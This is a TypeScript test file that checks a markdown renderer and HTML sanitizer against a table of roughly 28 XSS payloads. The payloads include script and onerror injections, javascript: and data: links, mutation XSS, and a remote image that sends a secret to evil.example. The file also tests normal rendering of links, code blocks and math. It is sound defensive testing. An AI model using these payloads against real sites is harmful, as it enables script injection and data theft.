import katex from 'katex';
import { describe, expect, it } from 'vitest';
import { useKatex } from './math';
import { renderMarkdown } from './render';
import { sanitize } from './sanitize';

function dom(html: string): HTMLElement {
  const root = document.createElement('div');
  root.innerHTML = html; // jsdom in tests: parses without running anything
  return root;
}

const DANGEROUS_TAGS = 'script, iframe, frame, object, embed, form, input, textarea, style, ' +
  'img, svg, video, audio, source, link, meta, base, template';

/** Every way the output could run code, fetch something or escape its box. */
function problems(html: string): string[] {
  const found: string[] = [];
  const root = dom(html);
  for (const element of root.querySelectorAll(DANGEROUS_TAGS)) {
    found.push(`<${element.tagName.toLowerCase()}> element`);
  }
  for (const element of root.querySelectorAll('*')) {
    for (const attr of Array.from(element.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${name} handler on <${element.tagName}>`);
      if (['style', 'src', 'srcset', 'action', 'formaction', 'id', 'name'].includes(name)) {
        found.push(`${name} attribute on <${element.tagName}>`);
      }
      if (name === 'href' || name === 'xlink:href') {
        if (element.tagName.toLowerCase() !== 'a') found.push(`href on <${element.tagName}>`);
        if (!/^(https?:|mailto:)/i.test(attr.value)) found.push(`link to ${attr.value}`);
      }
    }
  }
  for (const link of root.querySelectorAll('a[href]')) {
    if (link.getAttribute('target') !== '_blank') found.push('link without target=_blank');
    const rel = (link.getAttribute('rel') ?? '').split(/\s+/);
    if (!rel.includes('noopener') || !rel.includes('noreferrer')) found.push('link without rel');
  }
  return found;
}

describe('problems() itself', () => {
  it('notices each kind of danger, so the table below can fail', () => {
    expect(problems('<img src="x" onerror="alert(1)">')).toEqual(
      expect.arrayContaining(['<img> element', 'src attribute on <IMG>', 'onerror handler on <IMG>']),
    );
    expect(problems('<a href="javascript:alert(1)">x</a>')).toContain('link to javascript:alert(1)');
    expect(problems('<a href="https://x.example/">x</a>')).toContain('link without rel');
    expect(problems('<p style="position:fixed">x</p>')).toContain('style attribute on <P>');
  });
});

const PAYLOADS: [string, string][] = [
  ['img onerror', '<img src=x onerror="alert(1)">'],
  ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
  ['script tag', '<script>alert(1)</script>'],
  ['javascript: link', '[click me](javascript:alert(1))'],
  ['encoded javascript: link', '[click](jav&#x61;script:alert(1))'],
  ['javascript: link with spaces', '[x]( javascript:alert(1) )'],
  ['vbscript link', '[x](vbscript:msgbox(1))'],
  ['data: html link (markdown)', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data: html link (html)', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['form', '<form action="https://evil.example/"><input name="q"><button>go</button></form>'],
  ['style element', '<style>body { display: none }</style>'],
  ['style attribute', '<div style="position:fixed;inset:0">cover</div>'],
  ['nested malformed', '<<script>script>alert(1)<</script>/script>'],
  ['unclosed attribute', '<img src="x" onerror="alert(1)'],
  ['mutation XSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['math escape', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['remote image', '![secret](https://evil.example/collect?q=secret)'],
  ['remote image reference', '![x][1]\n\n[1]: https://evil.example/a.png'],
  ['autolink javascript', '<javascript:alert(1)>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['base tag', '<base href="https://evil.example/">'],
  ['event handler on link', '<a href="https://ok.example/" onclick="alert(1)">x</a>'],
  ['code fence language', '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ['link title', '[x](https://ok.example/ "\\"><img src=x onerror=alert(1)>")'],
  ['math payload', '$\\href{javascript:alert(1)}{x}$ and $$\\url{javascript:alert(1)}$$'],
];

describe('renderMarkdown keeps hostile input harmless', () => {
  useKatex(katex);
  it.each(PAYLOADS)('%s', (_name, payload) => {
    expect(problems(renderMarkdown(payload))).toEqual([]);
  });

  it.each(PAYLOADS)('%s, even when sanitizing raw HTML directly', (_name, payload) => {
    expect(problems(sanitize(payload))).toEqual([]);
  });

  it('shows raw HTML as text instead of dropping it', () => {
    const root = dom(renderMarkdown('<b onclick="x()">bold?</b>'));
    expect(root.querySelector('b')).toBeNull();
    expect(root.textContent).toContain('<b onclick="x()">bold?</b>');
  });

  it('replaces a remote image by a placeholder naming its host, with no request made', () => {
    const root = dom(renderMarkdown('![the chart](https://img.example:8443/c.png)'));
    const placeholder = root.querySelector('.image-placeholder');
    expect(placeholder?.textContent).toContain('the chart');
    expect(placeholder?.textContent).toContain('img.example:8443');
    const open = placeholder?.querySelector('a');
    expect(open?.getAttribute('href')).toBe('https://img.example:8443/c.png');
    expect(root.querySelector('img')).toBeNull();
  });

  it('drops a disallowed link but keeps its text', () => {
    const root = dom(renderMarkdown('[read this](javascript:alert(1))'));
    expect(root.querySelector('a')).toBeNull();
    expect(root.textContent).toContain('read this');
  });
});

describe('renderMarkdown renders what people expect', () => {
  it('opens links in a new tab without the opener or referrer', () => {
    const link = dom(renderMarkdown('[docs](https://docs.example/a?b=1)')).querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://docs.example/a?b=1');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it('highlights code with a language label and a copy button', () => {
    const root = dom(renderMarkdown('```python\ndef f(x):\n    return "<x>"\n```'));
    expect(root.querySelector('.code-lang')?.textContent).toBe('python');
    expect(root.querySelector('button.code-copy')).not.toBeNull();
    expect(root.querySelector('code .hljs-keyword')?.textContent).toBe('def');
    expect(root.querySelector('code')?.textContent).toContain('return "<x>"');
  });

  it('keeps code in an unknown language as escaped plain text', () => {
    const root = dom(renderMarkdown('```brainfuck\n<script>+</script>\n```'));
    expect(root.querySelector('.code-lang')?.textContent).toBe('brainfuck');
    expect(root.querySelector('script')).toBeNull();
    expect(root.querySelector('code')?.textContent).toContain('<script>+</script>');
  });

  it('renders tables, headings and lists', () => {
    const root = dom(renderMarkdown('# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |'));
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelectorAll('li')).toHaveLength(2);
    expect(root.querySelectorAll('table td')).toHaveLength(2);
  });

  it('renders math as MathML, without inline styles', () => {
    const html = renderMarkdown('Euler: $e^{i\\pi} + 1 = 0$\n\n$$\\int_0^1 x\\,dx$$');
    const root = dom(html);
    expect(root.querySelectorAll('math')).toHaveLength(2);
    expect(root.querySelector('.math-block math')).not.toBeNull();
    expect(html).not.toContain('style=');
  });

  it('leaves prices alone', () => {
    const root = dom(renderMarkdown('It costs $5 and $10.'));
    expect(root.querySelector('math')).toBeNull();
    expect(root.textContent).toContain('$5 and $10');
  });
});
